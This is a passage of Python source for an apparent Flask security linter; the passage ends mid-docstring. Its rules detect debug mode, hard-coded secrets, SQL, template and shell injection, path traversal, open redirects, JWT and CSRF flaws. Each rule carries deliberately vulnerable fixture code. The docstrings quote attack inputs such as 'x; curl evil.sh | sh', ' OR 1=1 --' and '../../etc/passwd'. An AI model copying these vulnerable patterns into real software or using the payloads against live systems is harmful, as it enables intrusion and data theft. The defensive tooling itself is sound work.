"""Security: what makes an app unsafe to deploy."""

from __future__ import annotations

import posixpath
import re
from collections.abc import Iterator

import libcst as cst
from flasklint.rules._shared import (
    call_tail,
    first_arg,
    in_non_production_config,
    is_auth_decorator,
    is_dynamic_string,
    is_false,
    is_none,
    is_true,
    kwarg_value,
    literal_text,
)

from flasklint import flaskapi
from flasklint.context import FileContext, dotted_name, keyword_arg, string_value
from flasklint.project import ProjectModel
from flasklint.rule import (
    MET,
    NOT_APPLICABLE,
    NOT_MET,
    PARTLY,
    FileRule,
    Finding,
    PracticeRule,
    ProjectRule,
    Verdict,
    evidence,
    plural,
)


class DebugMode(FileRule):
    """Debug mode is switched on in code.

    ## What it checks
    `app.run(debug=True)`, `app.debug = True`, `app.config["DEBUG"] = True`,
    `app.config.update(DEBUG=True)`, and `DEBUG = True` at module level or in
    a config class whose name does not mark it as development or testing
    (`DevelopmentConfig`, `TestingConfig`, `LocalConfig`, and settings files
    such as `config/development.py` are fine).

    ## Why it matters
    Flask's debugger lets anyone who can reach an error page run Python code
    on the server. Debug mode in code ships to production the day someone
    runs the module there.

    ## Example
    ```python
    if __name__ == "__main__":
        app.run(debug=True)
    ```

    ## Use instead
    ```
    flask --app app run --debug      # development only, from the command line
    ```
    and keep `DEBUG` out of production configuration.
    """

    code = "FL501"
    name = "debug-mode"
    skill = "security"
    severity = "high"
    weight = 3.0
    good = (
        """\
import os

from flask import Flask


class DevelopmentConfig:
    DEBUG = True


class ProductionConfig:
    DEBUG = False


app = Flask(__name__)
app.config["DEBUG"] = os.environ.get("FLASK_DEBUG") == "1"
print("app.run(debug=True)")  # a string, not a call

if __name__ == "__main__":
    app.run()
""",
    )
    bad = (
        """\
from flask import Flask

app = Flask(__name__)

if __name__ == "__main__":
    app.run(debug=True)
""",
        """\
class Config:
    SECRET_KEY = "x"
    DEBUG = True
""",
        """\
from flask import Flask

app = Flask(__name__)
app.debug = True
app.config.update(DEBUG=True)
""",
    )

    def visit_Call(self, node: cst.Call) -> None:
        func = dotted_name(node.func) or ""
        tail = func.rpartition(".")[2]
        if tail == "run":
            debug = keyword_arg(node, "debug")
            if debug is not None and is_true(debug.value):
                self.report(node, f"{func}(debug=True) enables the interactive debugger")
        elif tail == "update" and func.endswith("config.update"):
            debug = keyword_arg(node, "DEBUG")
            if debug is not None and is_true(debug.value):
                self.report(node, "config.update(DEBUG=True) enables debug mode")

    def visit_Assign(self, node: cst.Assign) -> None:
        if not is_true(node.value):
            return
        for target in node.targets:
            self._target(target.target, node)

    def _target(self, target: cst.BaseExpression, node: cst.Assign) -> None:
        ctx = self.ctx
        if isinstance(target, cst.Name) and target.value == "DEBUG":
            if in_non_production_config(ctx):
                return
            cls = ctx.class_scope
            if ctx.scope.kind == "module":
                self.report(node, "DEBUG = True at module level of the configuration")
            elif cls is not None and ctx.scope is cls:
                self.report(node, f"DEBUG = True in config class {cls.name}, not a development/test config")
        elif isinstance(target, cst.Attribute) and target.attr.value == "debug":
            self.report(node, f"{dotted_name(target) or 'app.debug'} = True enables debug mode")
        elif isinstance(target, cst.Subscript) and len(target.slice) == 1:
            index = target.slice[0].slice
            if isinstance(index, cst.Index) and string_value(index.value) == "DEBUG":
                self.report(node, 'config["DEBUG"] = True enables debug mode')


SECRET_NAME = re.compile(r"(secret|password|passwd|token|api_?key|private_?key|salt|credential)", re.IGNORECASE)
NOT_SECRET_NAME = re.compile(r"(_url|_uri|_file|_path|_expires?|_length|_lifetime|_header|_name|_location)$", re.I)


def _secret_name(name: str) -> bool:
    return bool(SECRET_NAME.search(name)) and not NOT_SECRET_NAME.search(name)


def _env_read(node: cst.BaseExpression, ctx: FileContext) -> cst.Call | None:
    if isinstance(node, cst.Call) and ctx.qualname(node.func) in flaskapi.ENV_READS:
        return node
    return None


def secret_value(node: cst.BaseExpression, ctx: FileContext) -> str | None:
    """ "literal" for a hard-coded non-empty string, "fallback" for an env read's literal default."""
    text = string_value(node)
    if text:
        return "literal"
    read = _env_read(node, ctx)
    if read is not None:
        args = [a for a in read.args if a.keyword is None]
        default = args[1].value if len(args) > 1 else kwarg_value(read, "default")
        return "fallback" if default is not None and string_value(default) else None
    if isinstance(node, cst.BooleanOperation) and isinstance(node.operator, cst.Or):
        if _env_read(node.left, ctx) is not None and string_value(node.right):
            return "fallback"
    return None


class HardcodedSecret(FileRule):
    """Secrets are hard-coded in the source.

    ## What it checks
    String literals assigned to `SECRET_KEY`, `app.secret_key`, and names
    that say secret, password, token, API key, private key or salt: at module
    level, in config classes, in `app.config[...]`, in `config.update(...)` /
    `from_mapping(...)` keywords and in config dicts. A literal default of an
    environment read (`os.environ.get("SECRET_KEY", "dev")`) is a low-severity
    finding. Development and testing config classes (`DevelopmentConfig`,
    `TestingConfig`) and dev/test/local settings files are not judged.

    ## Why it matters
    Anyone with the code (every clone, fork, CI log and container image) has
    the secret: they can forge session cookies signed with `SECRET_KEY`, or
    log in with the password. Rotating it means a code change.

    ## Example
    ```python
    app.config["SECRET_KEY"] = "super-secret"
    ```

    ## Use instead
    ```python
    app.config["SECRET_KEY"] = os.environ["SECRET_KEY"]   # fails loudly when unset
    ```
    """

    code = "FL502"
    name = "hardcoded-secret"
    skill = "security"
    severity = "high"
    weight = 3.0
    good = (
        """\
import os

from flask import Flask


class Config:
    SECRET_KEY = os.environ["SECRET_KEY"]
    PASSWORD_MIN_LENGTH = 12


class DevelopmentConfig(Config):
    SECRET_KEY = "dev"


class TestingConfig(Config):
    SECRET_KEY = "test"


app = Flask(__name__)
app.config.from_object(Config)
API_TOKEN_HEADER = "X-Api-Token"
""",
        {"config/local.py": 'SECRET_KEY = "local-only"\n', "app.py": "from flask import Flask\n"},
    )
    bad = (
        """\
from flask import Flask

app = Flask(__name__)
app.config["SECRET_KEY"] = "super-secret"
""",
        """\
class Config:
    SECRET_KEY = "6f1c2e..."
    MAIL_PASSWORD = "hunter2"
""",
        """\
import os

SECRET_KEY = os.environ.get("SECRET_KEY", "fallback-secret")
""",
    )

    def _judge(self, node: cst.CSTNode, name: str, value: cst.BaseExpression) -> None:
        if not _secret_name(name) or in_non_production_config(self.ctx):
            return
        kind = secret_value(value, self.ctx)
        if kind == "literal":
            self.report(node, f"{name} is a hard-coded string")
        elif kind == "fallback":
            self.report(node, f"{name} falls back to a hard-coded string when the variable is unset", "low")

    def visit_Assign(self, node: cst.Assign) -> None:
        for target in node.targets:
            name = _target_name(target.target)
            if name:
                self._judge(node, name, node.value)

    def visit_AnnAssign(self, node: cst.AnnAssign) -> None:
        name = _target_name(node.target)
        if name and node.value is not None:
            self._judge(node, name, node.value)

    def visit_Call(self, node: cst.Call) -> None:
        tail = call_tail(node)
        if tail in ("update", "from_mapping", "setdefault", "dict"):
            for arg in node.args:
                if arg.keyword is not None:
                    self._judge(arg, arg.keyword.value, arg.value)

    def visit_DictElement(self, node: cst.DictElement) -> None:
        key = string_value(node.key)
        if key and key.isupper():  # config-style keys only, not arbitrary data
            self._judge(node, key, node.value)


def _target_name(target: cst.BaseExpression) -> str | None:
    if isinstance(target, cst.Name):
        return target.value
    if isinstance(target, cst.Attribute):
        return target.attr.value
    if isinstance(target, cst.Subscript) and len(target.slice) == 1:
        index = target.slice[0].slice
        if isinstance(index, cst.Index):
            return string_value(index.value)
    return None


SQL_SINKS = frozenset({"execute", "executemany", "executescript", "text", "exec_driver_sql", "raw", "mogrify"})
SQL_WORDS = re.compile(r"\b(select|insert|update|delete|create|drop|alter|where|from|values)\b", re.IGNORECASE)


class SqlInjection(FileRule):
    """SQL is built from strings and executed.

    ## What it checks
    SQL built with an f-string, `%`, `+` or `.format()` and passed to
    `execute()`, `executemany()`, `executescript()`, `text()` or
    `exec_driver_sql()`, directly or through a variable built earlier in the
    same function. Critical when request data flows into it. Parameterized
    queries (`execute("... WHERE id = %s", (user_id,))`, `text("... :id")`
    with bound parameters) pass.

    ## Why it matters
    A value that reaches the SQL text is interpreted as SQL: `' OR 1=1 --`
    reads every row, `'; DROP TABLE users; --` worse. Parameters are sent
    separately from the statement and can never change its meaning.

    ## Example
    ```python
    cur.execute(f"SELECT * FROM users WHERE name = '{name}'")
    ```

    ## Use instead
    ```python
    cur.execute("SELECT * FROM users WHERE name = %s", (name,))
    db.session.execute(select(User).where(User.name == name))
    ```
    """

    code = "FL503"
    name = "sql-injection"
    skill = "security"
    severity = "high"
    weight = 3.0
    good = (
        """\
from flask import Flask, request
from sqlalchemy import text

app = Flask(__name__)


@app.get("/users")
def users():
    cur = app.db.cursor()
    cur.execute("SELECT * FROM users WHERE name = %s", (request.args["name"],))
    table = "users"
    query = text("SELECT * FROM users WHERE id = :id")
    app.db.execute(query, {"id": request.args["id"]})
    return "ok"
""",
    )
    bad = (
        """\
from flask import Flask, request

app = Flask(__name__)


@app.get("/users")
def users():
    name = request.args["name"]
    cur = app.db.cursor()
    cur.execute(f"SELECT * FROM users WHERE name = '{name}'")
    return "ok"
""",
        """\
def find(db, user_id):
    query = "SELECT * FROM orders WHERE user_id = %s" % user_id
    rows = db.execute(query)
    return rows
""",
    )

    def __init__(self, ctx):
        super().__init__(ctx)
        self.built: list[dict[str, bool]] = [{}]  # per function: name -> built from request data

    def visit_FunctionDef(self, node: cst.FunctionDef) -> None:
        self.built.append({})

    def leave_FunctionDef(self, node: cst.FunctionDef) -> None:
        self.built.pop()

    def _dynamic_sql(self, value: cst.BaseExpression) -> bool:
        return is_dynamic_string(value) and bool(SQL_WORDS.search(literal_text(value) or ""))

    def visit_Assign(self, node: cst.Assign) -> None:
        if self._dynamic_sql(node.value):
            for target in node.targets:
                if isinstance(target.target, cst.Name):
                    self.built[-1][target.target.value] = self.ctx.is_request_derived(node.value)

    def visit_Call(self, node: cst.Call) -> None:
        if call_tail(node) not in SQL_SINKS:
            return
        arg = first_arg(node)
        if arg is None:
            return
        if self._dynamic_sql(arg):
            tainted = self.ctx.is_request_derived(arg)
        elif isinstance(arg, cst.Name) and arg.value in self.built[-1]:
            tainted = self.built[-1][arg.value] or self.ctx.is_request_derived(arg)
        else:
            return
        if tainted:
            self.report(node, "request data is formatted into SQL: SQL injection", "critical")
        else:
            self.report(node, "SQL built by string formatting is executed; pass values as parameters")


class TemplateInjection(FileRule):
    """A template is rendered from a string built with request data.

    ## What it checks
    `render_template_string(...)`, `jinja2.Template(...)` and
    `Environment.from_string(...)` whose template text is not a constant and
    carries request data (or is built with an f-string, `%`, `+` or
    `.format()`). A constant template with variables passed as context is
    fine.

    ## Why it matters
    Whatever reaches the template *source* is executed by Jinja:
    `{{ config.SECRET_KEY }}` leaks secrets and known payloads reach
    `os.popen`. This is server-side template injection, a remote code
    execution.

    ## Example
    ```python
    return render_template_string(f"<h1>Hello {request.args['name']}</h1>")
    ```

    ## Use instead
    ```python
    return render_template_string("<h1>Hello {{ name }}</h1>", name=request.args["name"])
    ```
    """

    code = "FL504"
    name = "template-injection"
    skill = "security"
    severity = "critical"
    weight = 3.0
    good = (
        """\
from flask import Flask, render_template_string, request

app = Flask(__name__)
PAGE = "<h1>Hello {{ name }}</h1>"


@app.get("/")
def hello():
    return render_template_string(PAGE, name=request.args.get("name", ""))
""",
    )
    bad = (
        """\
from flask import Flask, render_template_string, request

app = Flask(__name__)


@app.get("/")
def hello():
    name = request.args.get("name", "")
    return render_template_string("<h1>Hello " + name + "</h1>")
""",
    )

    SINKS = frozenset({"render_template_string", "Template", "from_string"})

    def visit_Call(self, node: cst.Call) -> None:
        if call_tail(node) not in self.SINKS:
            return
        source = first_arg(node)
        if source is None or string_value(source) is not None:
            return
        if self.ctx.is_request_derived(source):
            self.report(node, "template source carries request data: server-side template injection")
        elif is_dynamic_string(source):
            self.report(node, "template source is built at run time; pass values as context instead", "medium")


class UnescapedMarkup(FileRule):
    """Escaping is switched off for data that may come from users.

    ## What it checks
    `Markup(...)` / `markupsafe.Markup(...)` around request data or a string
    built at run time, and autoescaping turned off in code
    (`app.jinja_env.autoescape = False`, `Environment(autoescape=False)`).

    ## Why it matters
    `Markup` tells Jinja the text is already safe HTML. If it contains user
    input, a `<script>` in that input runs in every visitor's browser
    (stored or reflected cross-site scripting).

    ## Example
    ```python
    return render_template("page.html", bio=Markup(user.bio))
    ```

    ## Use instead
    Pass plain strings to templates and let autoescaping work; build markup
    with `Markup("<b>{}</b>").format(value)`, which escapes `value`.
    """

    code = "FL505"
    name = "unescaped-markup"
    skill = "security"
    severity = "high"
    weight = 2.0
    good = (
        """\
from flask import Flask, render_template, request
from markupsafe import Markup

app = Flask(__name__)
ICON = Markup("<svg></svg>")


@app.get("/")
def page():
    return render_template("page.html", q=request.args.get("q"), title=Markup("<b>{}</b>").format("x"))
""",
    )
    bad = (
        """\
from flask import Flask, request
from markupsafe import Markup

app = Flask(__name__)


@app.get("/")
def page():
    return Markup("<p>" + request.args.get("q", "") + "</p>")
""",
        """\
from flask import Flask

app = Flask(__name__)
app.jinja_env.autoescape = False
""",
    )

    def visit_Call(self, node: cst.Call) -> None:
        name = call_tail(node)
        if name == "Markup":
            arg = first_arg(node)
            if arg is None or string_value(arg) is not None:
                return
            if self.ctx.is_request_derived(arg):
                self.report(node, "Markup() marks request data as safe HTML: cross-site scripting")
            elif is_dynamic_string(arg):
                self.report(node, "Markup() around a string built at run time; use Markup(...).format()", "medium")
        elif name == "Environment" and is_false(kwarg_value(node, "autoescape")):
            self.report(node, "Jinja Environment created with autoescape=False")

    def visit_Assign(self, node: cst.Assign) -> None:
        for target in node.targets:
            if isinstance(target.target, cst.Attribute) and target.target.attr.value == "autoescape":
                if is_false(node.value):
                    self.report(node, "autoescaping switched off for every template")


TEMPLATE_SUFFIXES = (".html", ".htm", ".jinja", ".jinja2", ".j2", ".xml")
SAFE_FILTER = re.compile(r"\{\{[^}]*\|\s*safe\b")
AUTOESCAPE_OFF = re.compile(r"\{%-?\s*autoescape\s+false\b", re.IGNORECASE)


class TemplateSafeFilter(ProjectRule):
    """Templates switch escaping off with `|safe` or `autoescape false`.

    ## What it checks
    Jinja templates in the repository (`.html`, `.jinja`, `.j2`, ...) that
    output a value with the `|safe` filter (low severity each: flasklint
    cannot tell whether the value came from a user) or open an
    `{% autoescape false %}` block (medium).

    ## Why it matters
    Both print the value as raw HTML. When the value holds anything a user
    typed, that is cross-site scripting.

    ## Example
    ```
    <div class="bio">{{ user.bio|safe }}</div>
    ```

    ## Use instead
    ```
    <div class="bio">{{ user.bio }}</div>
    ```
    and sanitise rich text on the way in (e.g. with `bleach`) when HTML must be kept.
    """

    code = "FL506"
    name = "template-safe-filter"
    skill = "security"
    severity = "low"
    weight = 1.0
    good = ({"app.py": "from flask import Flask\n", "templates/page.html": "<p>{{ user.bio }}</p>\n{# |safe #}\n"},)
    bad = (
        {"app.py": "from flask import Flask\n", "templates/page.html": "<p>{{ user.bio|safe }}</p>\n"},
        {
            "app.py": "from flask import Flask\n",
            "templates/raw.html": "{% autoescape false %}{{ x }}{% endautoescape %}\n",
        },
    )

    @classmethod
    def applies(cls, project: ProjectModel) -> str | None:
        if not any(rel.endswith(TEMPLATE_SUFFIXES) for rel in project.other_files):
            return "no templates in the repository"
        return None

    def check(self, project: ProjectModel) -> Iterator[Finding]:
        for rel in project.other_files:
            if not rel.endswith(TEMPLATE_SUFFIXES):
                continue
            text = project.read_text(rel) or ""
            text = re.sub(r"\{#.*?#\}", lambda m: "\n" * m.group().count("\n"), text, flags=re.S)
            for number, line in enumerate(text.splitlines(), 1):
                if SAFE_FILTER.search(line):
                    yield self.finding(rel, number, "value printed with |safe: not escaped")
                if AUTOESCAPE_OFF.search(line):
                    yield self.finding(rel, number, "{% autoescape false %} block", "medium")


DESERIALIZERS = frozenset(
    {
        "pickle.loads",
        "pickle.load",
        "cPickle.loads",
        "dill.loads",
        "marshal.loads",
        "jsonpickle.decode",
        "yaml.unsafe_load",
        "yaml.full_load",
        "shelve.open",
    }
)
SAFE_YAML_LOADERS = ("SafeLoader", "CSafeLoader", "BaseLoader")


class UnsafeDeserializationOrEval(FileRule):
    """Untrusted data is unpickled, loaded as YAML objects, or evaluated.

    ## What it checks
    `pickle.loads/load`, `marshal.loads`, `dill.loads`, `jsonpickle.decode`,
    `yaml.load` without a safe loader, `yaml.unsafe_load`, and `eval()` /
    `exec()` of anything but a constant. Critical when request data reaches
    the call.

    ## Why it matters
    Unpickling and full YAML loading construct arbitrary objects, and
    `eval`/`exec` run arbitrary code: whoever controls the input runs code on
    the server.

    ## Example
    ```python
    data = pickle.loads(request.data)
    total = eval(request.args["expr"])
    ```

    ## Use instead
    `json.loads`, `yaml.safe_load`, and a real parser (or `ast.literal_eval`
    for Python literals).
    """

    code = "FL507"
    name = "unsafe-deserialization-or-eval"
    skill = "security"
    severity = "high"
    weight = 2.0
    good = (
        """\
import ast
import json

import yaml
from flask import Flask, request

app = Flask(__name__)


@app.post("/import")
def import_data():
    data = json.loads(request.data)
    settings = yaml.safe_load(request.data)
    other = yaml.load(request.data, Loader=yaml.SafeLoader)
    number = ast.literal_eval(request.args["n"])
    eval("1 + 1")
    return {"n": number, "d": data, "s": settings, "o": other}
""",
    )
    bad = (
        """\
import pickle

from flask import Flask, request

app = Flask(__name__)


@app.post("/import")
def import_data():
    return pickle.loads(request.data)
""",
        """\
import yaml


def read(path):
    with open(path) as handle:
        return yaml.load(handle)
""",
        """\
from flask import Flask, request

app = Flask(__name__)


@app.get("/calc")
def calc():
    return str(eval(request.args["expr"]))
""",
    )

    def visit_Call(self, node: cst.Call) -> None:
        qual = self.ctx.qualname(node.func) or ""
        arg = first_arg(node)
        problem = None
        if qual in DESERIALIZERS:
            problem = f"{qual}() builds arbitrary objects from its input"
        elif qual in ("yaml.load", "yaml.load_all"):
            loader = kwarg_value(node, "Loader")
            args = [a for a in node.args if a.keyword is None]
            if loader is None and len(args) > 1:
                loader = args[1].value
            if loader is None or not (dotted_name(loader) or "").endswith(SAFE_YAML_LOADERS):
                problem = f"{qual}() without a safe Loader builds arbitrary objects"
        elif qual in ("eval", "exec") and arg is not None and string_value(arg) is None:
            problem = f"{qual}() runs code built at run time"
        if problem is None:
            return
        if arg is not None and self.ctx.is_request_derived(arg):
            self.report(node, problem + " from request data", "critical")
        else:
            self.report(node, problem)


SHELL_CALLS = frozenset({"os.system", "os.popen", "commands.getoutput", "subprocess.getoutput"})
SUBPROCESS_CALLS = frozenset(
    {"subprocess.run", "subprocess.call", "subprocess.check_call", "subprocess.check_output", "subprocess.Popen"}
)


class ShellInjection(FileRule):
    """A shell command is built from request data.

    ## What it checks
    `os.system(...)`, `os.popen(...)` and `subprocess.*(..., shell=True)`
    whose command carries request data (critical), or, inside a view, is
    built at run time (high). A maintenance command in a CLI command that
    uses no request data is not a finding.

    ## Why it matters
    The shell interprets `;`, `&&`, `$(...)` and backticks in the command: a
    value such as `x; curl evil.sh | sh` runs whatever the client wants.

    ## Example
    ```python
    os.system("convert " + request.args["file"] + " out.png")
    ```

    ## Use instead
    ```python
    subprocess.run(["convert", filename, "out.png"], check=True)   # no shell, a list of arguments
    ```
    """

    code = "FL508"
    name = "shell-injection"
    skill = "security"
    severity = "critical"
    weight = 2.0
    good = (
        """\
import os
import subprocess

import click
from flask import Flask, request

app = Flask(__name__)


@app.cli.command("backup")
def backup():
    os.system("pg_dump app > backup.sql")


@app.post("/thumb")
def thumb():
    subprocess.run(["convert", request.form["name"], "out.png"], check=True)
    return "", 204
""",
    )
    bad = (
        """\
import os

from flask import Flask, request

app = Flask(__name__)


@app.get("/ping")
def ping():
    host = request.args.get("host", "")
    return os.popen("ping -c 1 " + host).read()
""",
        """\
import subprocess

from flask import Flask, request

app = Flask(__name__)


@app.post("/convert")
def convert():
    subprocess.run(f"convert {request.form['name']} out.png", shell=True, check=True)
    return "", 204
""",
    )

    def visit_Call(self, node: cst.Call) -> None:
        qual = self.ctx.qualname(node.func) or ""
        if qual in SHELL_CALLS or (qual in SUBPROCESS_CALLS and is_true(kwarg_value(node, "shell"))):
            pass
        else:
            return
        command = first_arg(node) or kwarg_value(node, "args")
        if command is None or string_value(command) is not None:
            return
        if self.ctx.is_request_derived(command):
            self.report(node, f"{qual}() runs a shell command built from request data: command injection")
        elif self.ctx.in_request_handler and is_dynamic_string(command):
            self.report(node, f"{qual}() in a view runs a shell command built at run time", "high")


class PathTraversal(FileRule):
    """A file path comes from the request.

    ## What it checks
    `send_file(...)`, `open(...)`, `os.remove(...)` and `os.path.join(...)`
    results passed to them, when the path carries request data or a URL
    parameter (`/download/<name>`).

    ## Why it matters
    `../../etc/passwd` or an absolute path in the value reads (or deletes)
    any file the server can reach, source code and secrets included.

    ## Example
    ```python
    @app.get("/files/<name>")
    def download(name):
        return send_file(os.path.join(UPLOADS, name))
    ```

    ## Use instead
    ```python
    return send_from_directory(UPLOADS, name)   # rejects paths that leave UPLOADS
    ```
    and `werkzeug.utils.secure_filename` for names you store.
    """

    code = "FL509"
    name = "path-traversal"
    skill = "security"
    severity = "high"
    weight = 2.0
    good = (
        """\
from flask import Flask, send_file, send_from_directory

app = Flask(__name__)


@app.get("/files/<name>")
def download(name):
    return send_from_directory("uploads", name)


@app.get("/report")
def report():
    return send_file("static/report.pdf")
""",
    )
    bad = (
        """\
import os

from flask import Flask, send_file

app = Flask(__name__)


@app.get("/files/<path:name>")
def download(name):
    return send_file(os.path.join("uploads", name))
""",
        """\
from flask import Flask, request

app = Flask(__name__)


@app.get("/read")
def read():
    with open(request.args["file"]) as handle:
        return handle.read()
""",
    )

    SINKS = frozenset({"send_file", "open", "os.remove", "os.unlink", "shutil.rmtree", "io.open"})

    def visit_Call(self, node: cst.Call) -> None:
        qual = self.ctx.qualname(node.func) or ""
        if qual not in self.SINKS and qual.rpartition(".")[2] != "send_file":
            return
        path = first_arg(node)
        if path is not None and self.ctx.is_request_derived(path):
            self.report(node, f"{qual}() with a path from the request: path traversal")


SAFE_URL_CHECKS = ("is_safe_url", "url_has_allowed_host_and_scheme", "urlparse", "urlsplit", "url_parse")


class OpenRedirect(FileRule):
    """A redirect goes wherever the request says.

    ## What it checks
    `redirect(...)` whose target carries request data (`?next=`, a form
    field, the Referer header) in a function that does not check the URL
    (`url_has_allowed_host_and_scheme`, `urlparse`/`urlsplit`, an
    `is_safe_url` helper).

    ## Why it matters
    A link to your login page with `?next=https://evil.example` sends users
    to a phishing page that looks like the next step of your site.

    ## Example
    ```python
    return redirect(request.args.get("next") or url_for("index"))
    ```

    ## Use instead
    ```python
    target = request.args.get("next", "")
    if not target.startswith("/") or target.startswith("//"):
        target = url_for("index")
    return redirect(target)
    ```
    (or check the host with `urlparse`).
    """

    code = "FL510"
    name = "open-redirect"
    skill = "security"
    severity = "medium"
    weight = 1.0
    good = (
        """\
from urllib.parse import urlparse

from flask import Flask, redirect, request, url_for

app = Flask(__name__)


@app.get("/login")
def login():
    target = request.args.get("next", "")
    if urlparse(target).netloc:
        target = url_for("index")
    return redirect(target or url_for("index"))


@app.get("/home")
def home():
    return redirect(url_for("index"))
""",
    )
    bad = (
        """\
from flask import Flask, redirect, request

app = Flask(__name__)


@app.get("/login")
def login():
    return redirect(request.args.get("next", "/"))
""",
    )

    def __init__(self, ctx):
        super().__init__(ctx)
        self.pending: list[list[cst.Call]] = [[]]
        self.checked: list[bool] = [False]

    def visit_FunctionDef(self, node: cst.FunctionDef) -> None:
        self.pending.append([])
        self.checked.append(False)

    def leave_FunctionDef(self, node: cst.FunctionDef) -> None:
        calls, checked = self.pending.pop(), self.checked.pop()
        if not checked:
            for call in calls:
                self.report(call, "redirect() to a URL taken from the request: open redirect")

    def visit_Call(self, node: cst.Call) -> None:
        name = call_tail(node)
        if name in SAFE_URL_CHECKS:
            self.checked[-1] = True
        elif name == "redirect":
            target = first_arg(node)
            if target is not None and self.ctx.is_request_derived(target):
                self.pending[-1].append(node)


class JwtVerification(FileRule):
    """JWTs are decoded without verifying them.

    ## What it checks
    `jwt.decode(...)` with `options={"verify_signature": False}`,
    `verify=False`, or `"none"` among the accepted algorithms; and
    `jwt.decode(token, key)` without `algorithms=` (PyJWT accepted whatever
    the token claimed before 2.0).

    ## Why it matters
    An unverified token is just JSON the client wrote: anyone can claim to be
    any user, or an administrator.

    ## Example
    ```python
    claims = jwt.decode(token, options={"verify_signature": False})
    ```

    ## Use instead
    ```python
    claims = jwt.decode(token, key, algorithms=["HS256"])
    ```
    or flask-jwt-extended's `@jwt_required()`.
    """

    code = "FL511"
    name = "jwt-verification"
    skill = "security"
    severity = "high"
    weight = 2.0
    good = (
        """\
import jwt


def claims(token, key):
    return jwt.decode(token, key, algorithms=["HS256"])
""",
    )
    bad = (
        """\
import jwt


def claims(token):
    return jwt.decode(token, options={"verify_signature": False})
""",
        """\
import jwt


def claims(token, key):
    return jwt.decode(token, key, algorithms=["HS256", "none"])
""",
    )

    def visit_Call(self, node: cst.Call) -> None:
        if self.ctx.qualname(node.func) not in ("jwt.decode", "jose.jwt.decode", "jwt.api_jwt.decode"):
            return
        options = kwarg_value(node, "options")
        if isinstance(options, cst.Dict):
            for element in options.elements:
                if isinstance(element, cst.DictElement) and string_value(element.key) == "verify_signature":
                    if is_false(element.value):
                        self.report(node, "jwt.decode() with verify_signature=False accepts forged tokens")
                        return
        if is_false(kwarg_value(node, "verify")):
            self.report(node, "jwt.decode(verify=False) accepts forged tokens")
            return
        algorithms = kwarg_value(node, "algorithms")
        if isinstance(algorithms, (cst.List, cst.Tuple)):
            if any((string_value(e.value) or "").lower() == "none" for e in algorithms.elements):
                self.report(node, 'jwt.decode() accepts the "none" algorithm: unsigned tokens pass')
        elif algorithms is None:
            self.report(node, "jwt.decode() without algorithms=: the token chooses how it is checked", "medium")


class CsrfDisabled(FileRule):
    """CSRF protection is switched off outside tests.

    ## What it checks
    `WTF_CSRF_ENABLED = False` (or `WTF_CSRF_CHECK_DEFAULT = False`) in
    configuration that is not a development or testing config, and
    `@csrf.exempt` on views.

    ## Why it matters
    Without the token check, any site a logged-in user visits can submit
    forms to your app as that user: change their email, transfer funds,
    delete data.

    ## Example
    ```python
    class Config:
        WTF_CSRF_ENABLED = False
    ```

    ## Use instead
    Keep CSRF protection on (`CSRFProtect(app)`), disable it only in
    `TestingConfig`, and exempt only endpoints authenticated by a token
    header rather than a cookie.
    """

    code = "FL512"
    name = "csrf-disabled"
    skill = "security"
    severity = "high"
    weight = 2.0
    good = (
        """\
class Config:
    WTF_CSRF_ENABLED = True


class TestingConfig(Config):
    WTF_CSRF_ENABLED = False
""",
    )
    bad = (
        """\
class Config:
    WTF_CSRF_ENABLED = False
""",
        """\
from flask import Flask
from flask_wtf import CSRFProtect

app = Flask(__name__)
csrf = CSRFProtect(app)


@app.post("/transfer")
@csrf.exempt
def transfer():
    return "", 204
""",
    )

    KEYS = ("WTF_CSRF_ENABLED", "WTF_CSRF_CHECK_DEFAULT")

    def visit_Assign(self, node: cst.Assign) -> None:
        if not is_false(node.value) or in_non_production_config(self.ctx):
            return
        for target in node.targets:
            if _target_name(target.target) in self.KEYS:
                self.report(node, "CSRF protection switched off")

    def visit_Call(self, node: cst.Call) -> None:
        if call_tail(node) == "update" and not in_non_production_config(self.ctx):
            for key in self.KEYS:
                if is_false(kwarg_value(node, key)):
                    self.report(node, "CSRF protection switched off")

    def visit_Decorator(self, node: cst.Decorator) -> None:
        if (dotted_name(node.decorator) or "").endswith("csrf.exempt"):
            self.report(node, "view exempted from CSRF protection", "medium")


CSRF_IMPORTS = ("flask_wtf", "flask_seasurf", "flask_csrf")


class CsrfProtection(PracticeRule):
    """Form posts are protected against cross-site request forgery.

    ## What it checks
    When views read `request.form`, that the app uses Flask-WTF
    (`CSRFProtect`, or `FlaskForm` forms, which carry a token) or another
    CSRF extension. Not applicable to apps that take no form posts.

    ## Why it matters
    Browsers send cookies with cross-site form posts: without a token the
    app cannot tell a form it served from one another site submitted.

    ## Example
    ```python
    @app.post("/email")
    @login_required
    def change_email():
        current_user.email = request.form["email"]
    ```

    ## Use instead
    ```python
    csrf = CSRFProtect()
    csrf.init_app(app)          # and {{ csrf_token() }} in every form
    ```
    """

    code = "FL513"
    name = "csrf-protection"
    skill = "security"
    severity = "medium"
    weight = 2.0
    good = (
        {
            "app.py": """\
from flask import Flask, request
from flask_wtf import CSRFProtect

app = Flask(__name__)
csrf = CSRFProtect(app)


@app.post("/email")
def change_email():
    return request.form["email"]
""",
        },
    )
    bad = (
        {
            "app.py": """\
from flask import Flask, request

app = Flask(__name__)


@app.post("/email")
def change_email():
    return request.form["email"]
""",
        },
    )

    def judge(self, project: ProjectModel) -> Verdict:
        forms = [(m, f) for m in project.app_modules for f in m.functions if "form" in f.request_reads]
        if not forms:
            return Verdict(NOT_APPLICABLE, "no view reads form posts")
        found = [evidence(m.path, f.loc, f"{f.qualname}() reads request.form") for m, f in forms[:3]]
        protection = [
            (m, imp) for m in project.app_modules for imp in m.imports if imp.module.split(".")[0] in CSRF_IMPORTS
        ]
        if protection:
            m, imp = protection[0]
            return Verdict(
                MET,
                f"forms are protected ({imp.module})",
                [*found, evidence(m.path, imp.loc, f"imports {imp.module}")],
            )
        return Verdict(NOT_MET, f"{plural(len(forms), 'view')} read form posts with no CSRF protection", found)


HASH_CALLS = frozenset(
    {
        "generate_password_hash",
        "check_password_hash",
        "hashpw",
        "checkpw",
        "gensalt",
        "PasswordHasher",
        "hash_password",
        "verify_password",
        "pbkdf2_hmac",
        "scrypt",
        "CryptContext",
    }
)


class PasswordHashing(PracticeRule):
    """Passwords are stored hashed and checked with a constant-time compare.

    ## What it checks
    When the code handles passwords (a model column named `password`, a
    stored password compared with `==`, or hashing calls), that passwords
    go through `generate_password_hash` / `check_password_hash`, bcrypt,
    argon2 or passlib, and are never compared in plain text. Not applicable
    when the app has no passwords.

    ## Why it matters
    A leaked database of plain-text passwords is every user's password, on
